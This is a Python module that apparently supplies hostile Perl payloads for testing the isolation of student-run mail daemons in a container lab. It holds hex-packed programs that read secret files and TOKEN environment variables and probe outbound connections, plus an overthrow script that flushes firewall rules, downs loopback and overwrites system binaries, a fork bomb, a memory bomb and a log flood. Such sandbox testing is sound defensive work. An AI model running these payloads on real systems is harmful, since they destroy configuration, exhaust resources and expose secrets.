"""What an attacker would have a student's daemon run: programs in Perl, which every Debian has.

Each prints one line that begins with "attack:", so that a test sees that it ran and what came of it.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Iterable
    from pathlib import Path


def argv(code: str) -> str:
    """Return a program as a command of words that need no quoting: not in Postfix, nor in Dovecot."""
    return f"/usr/bin/perl -e {packed(code)}"


def packed(code: str) -> str:
    """Return a program as one word of Perl."""
    return f"eval(pack(q(H*),q({code.encode().hex()})))"


def survey(secret: Path, addresses: Iterable[str], port: int) -> str:
    """Say who it is, read a file of the machine, and call the machine by TCP, UDP and DNS.

    Args:
        secret: A file of the machine's.
        addresses: The machine's own addresses; the gateway of the lab's bridge is found from inside.
        port: Where the machine listens, by TCP and UDP.
    """
    places = {"FILE": str(secret), "PORT": str(port), "HOSTS": " ".join(addresses)}
    return re.sub("|".join(places), lambda found: places[found[0]], _SURVEY)


_SURVEY: Final = r"""
use strict; use Socket; use IO::Handle; use IO::Select; use Errno;
my @hosts = (qw(HOSTS), "127.0.0.11");
open my $routes, "<", "/proc/net/route";
while (<$routes>) {
    my $prefix = (split)[1];
    next if $prefix !~ /^[0-9A-F]{4}1[23]C6$/;
    push @hosts, inet_ntoa(pack("N", 1 + unpack("N", pack("V", hex $prefix))));
}
sub leads {
    my ($how, $host, $port) = @_;
    my ($type, $protocol) = $how eq "tcp" ? (SOCK_STREAM, 6) : (SOCK_DGRAM, 17);
    socket(my $socket, PF_INET, $type, $protocol) or return 0;
    my $ready = IO::Select->new($socket);
    $socket->blocking(0);
    if (!connect($socket, sockaddr_in($port, inet_aton($host)))) {
        return 0 if !$!{EINPROGRESS} || !$ready->can_write(0.2);
        return 0 if unpack("i", getsockopt($socket, SOL_SOCKET, SO_ERROR));
    }
    return 1 if $how eq "tcp";
    my $question = pack("n6", 1, 256, 1, 0, 0, 0) . "\4beta\4test\0" . pack("n2", 15, 1);
    defined(send($socket, $question, 0)) && $ready->can_read(0.05) or return 0;
    return defined(recv($socket, my $answer, 512, 0));
}
my ($tried, $led) = (0, 0);
for my $host (@hosts) {
    for my $port (PORT, 53) {
        for my $how ("tcp", "udp") { $tried++; $led += leads($how, $host, $port) ? 1 : 0 }
    }
}
open my $file, "<", "FILE";
my $read = <$file> // "";
my $known = join ",", grep { /TOKEN/ } keys %ENV;
open my $status, "<", "/proc/self/status";
my ($power) = map { /^CapEff:\s*(\S+)/ ? $1 : () } <$status>;
print "521 attack: user $>, may $power, tried $tried ways out, $led led anywhere, ";
print "read '$read', knows '$known'\n";
exit 1;
"""


OVERTHROW: Final = r"""
open STDOUT, ">>", "/proc/1/fd/1"; $| = 1;
my @ways = (
    "nft flush ruleset", "ip address add 198.18.255.254/15 dev lo", "ip route add blackhole 203.0.113.99",
    "ip link set lo down", "mount -t tmpfs none /mnt", "chroot /proc/1/root ip link set lo down",
);
my $done = grep { system("$_ > /dev/null 2>&1") == 0 } @ways;
my @programs = ("/usr/bin/doveadm", "/usr/sbin/ip", "/usr/sbin/nft", "/usr/bin/setpriv", "/usr/bin/env",
    glob("/usr/local/lib/labctl/*"));
my $replaced = 0;
for my $program (@programs) {
    unlink $program;
    open(my $file, ">", $program) or next;
    print $file "#!/usr/bin/perl\nopen F, '>>', '/proc/1/fd/1'; print F qq(attack: ran \$0 as \$>\\n);\n";
    close $file; chmod 0755, $program; $replaced++;
}
my $all = @ways;
print "attack: $done of $all changes of the network were made, $replaced programs were replaced\n";
sleep 600;
"""
"""As root in a container: change its network, and replace the programs that labctl might run there."""

FORK_BOMB: Final = "$SIG{CHLD} = q(IGNORE); while (1) { fork }"

MEMORY_BOMB: Final = "my @kept; push @kept, q(x) x 4e6 while 1"

LOG_FLOOD: Final = r"""
open F, ">>", "/proc/1/fd/1";
my $line = "attack: " . "flood " x 160 . "\n";
print F $line x 64 for 1 .. 17_000;
sleep 600;
"""
"""A gigabyte."""
